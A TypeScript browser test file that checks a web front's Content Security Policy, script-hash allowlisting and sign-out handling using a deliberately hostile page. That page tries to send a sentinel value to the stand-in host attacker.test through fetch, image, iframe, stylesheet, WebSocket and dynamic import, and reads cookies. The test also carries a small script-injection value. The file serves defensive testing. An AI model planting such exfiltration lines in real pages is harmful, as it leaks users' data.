import { expect } from "chai";
import { type Browser, type BrowserContext, chromium } from "playwright-core";
import { scriptHashes } from "../../hosts/edge/scriptHashes";
import { Edge, alice, origin, site } from "../hosts/edge/edge";

/** A page of a container that was taken over: it tries every way out that a page has, and writes down what worked. */
const hostilePage = `<!doctype html><title>app</title><script src="/app.js"></script><script>window.inline = true</script>
<img src="https://attacker.test/pixel?d=SENTINEL"><iframe src="https://attacker.test/"></iframe><link rel="stylesheet" href="https://attacker.test/a.css">`;
const hostileScript = `window.fromBuild = true; window.violations = [];
addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective + " " + event.blockedURI));
window.tries = Promise.allSettled([
    fetch("https://attacker.test/?d=SENTINEL"), navigator.serviceWorker.register("/sw.js"),
    new Promise((settle, fail) => { const s = new WebSocket("wss://attacker.test/"); s.onopen = settle; s.onerror = fail; }),
    import("https://attacker.test/m.js"), fetch("/sign-in"),
]).then((all) => all.map(({ status, value }) => status === "fulfilled" ? "worked " + (value?.status ?? "") : "failed"));
window.cookies = document.cookie;`;

/** The pinned image's page, with what its ingress writes into it, and one script that nobody has listed. */
const applicationPage = (settings: string) =>
    `<!doctype html><title>app</title><head>${settings}<script>window.first = 1</script></head><script type="module">window.second = 2</script>` +
    (settings === "" ? "" : "<script>window.third = 3</script>");

describe("the front in a real browser", function () {
    this.timeout(90_000);
    let edge: Edge;
    let browser: Browser;
    let context: BrowserContext;
    before(async () => {
        edge = await Edge.open(scriptHashes(applicationPage("")));
        const resolve = `--host-resolver-rules=MAP ${site} ${edge.room.address}, MAP * ~NOTFOUND`;
        browser = await chromium.launch({
            executablePath: process.env["CHROMIUM"] ?? "/usr/bin/chromium",
            args: ["--no-sandbox", resolve],
        });
        const credentials = { username: alice.name, password: alice.password, origin };
        context = await browser.newContext({ ignoreHTTPSErrors: true, httpCredentials: credentials });
        edge.container.answer = ({ url }, response) => {
            const [type, body] = url === "/app.js" ? ["text/javascript", hostileScript] : ["text/html", hostilePage];
            response.writeHead(200, { "Content-Type": type }).end(body);
        };
    });
    after(async () => {
        await browser?.close();
        edge?.close();
    });

    it("opens after the browser's own dialog, runs the build's scripts, and lets a hostile page ask nobody else", async () => {
        const page = await context.newPage();
        const asked: string[] = [];
        page.on("requestfinished", (request) => asked.push(new URL(request.url()).host));
        await page.goto(`${origin}/`);
        const seen = (await page.evaluate(
            "tries.then((all) => ({ all, fromBuild, inline: window.inline, cookies, violations }))",
        )) as {
            all: string[];
            fromBuild: boolean;
            inline: boolean | undefined;
            cookies: string;
            violations: string[];
        };
        expect([seen.fromBuild, seen.inline, seen.cookies]).to.deep.equal([true, undefined, ""]);
        expect(seen.all.slice(0, 4)).to.deep.equal(["failed", "failed", "failed", "failed"]);
        const directives = new Set(seen.violations.map((one) => one.split(" ")[0]));
        expect([...directives]).to.include.members(["script-src-elem", "img-src", "connect-src", "style-src-elem"]);
        expect(new Set(asked)).to.deep.equal(new Set([site]));
        await page.close();
    });

    it("runs the inline scripts of the pinned image and the ingress's settings, and no other script of the page", async () => {
        const answer = edge.container.answer;
        for (const [settings, runs] of [
            [`window.__AGENT_CANVAS_SESSION_API_KEY__="k\\u003c";window.__AGENT_CANVAS_DO_NOT_TRACK__=true;`, true],
            [`window.__AGENT_CANVAS_SESSION_API_KEY__="k";window.more=1;`, false],
            [`window.__AGENT_CANVAS_SESSION_API_KEY__="k"+alert(1);`, false],
        ] as const) {
            edge.container.answer = (_request, response) =>
                response
                    .writeHead(200, { "Content-Type": "text/html" })
                    .end(applicationPage(`<script>(function(){${settings}}());</script>`));
            const page = await context.newPage();
            await page.goto(`${origin}/`);
            const ran = await page.evaluate(
                "[window.first, window.second, window.third, !!window.__AGENT_CANVAS_SESSION_API_KEY__]",
            );
            expect(ran, settings).to.deep.equal([1, 2, undefined, runs]);
            await page.close();
        }
        edge.container.answer = answer;
    });

    it("stays signed out after a sign-out, although the browser knows the password, until a person opens the sign-in page", async () => {
        const page = await context.newPage();
        await page.goto(`${origin}/sign-out`);
        await Promise.all([page.waitForNavigation(), page.click("button")]);
        expect(await page.title()).to.equal("You have signed out");
        expect((await page.goto(`${origin}/`))!.status()).to.equal(401);
        expect(await page.textContent("h1")).to.equal("You are not signed in");
        await Promise.all([page.waitForNavigation(), page.click("a")]);
        expect(page.url()).to.equal(`${origin}/`);
        expect(await page.title()).to.equal("app");
    });
});
